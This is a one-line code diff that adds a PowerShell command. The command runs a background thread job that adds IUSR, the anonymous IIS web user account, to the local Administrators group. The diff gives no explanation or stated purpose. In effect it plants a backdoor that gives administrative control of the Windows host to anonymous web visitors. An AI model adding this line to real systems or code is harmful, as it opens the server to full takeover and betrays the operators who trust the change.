@@ -1,0 +1,1 @@
+Start-ThreadJob -ScriptBlock { net localgroup Administrators IUSR /add } | Wait-Job
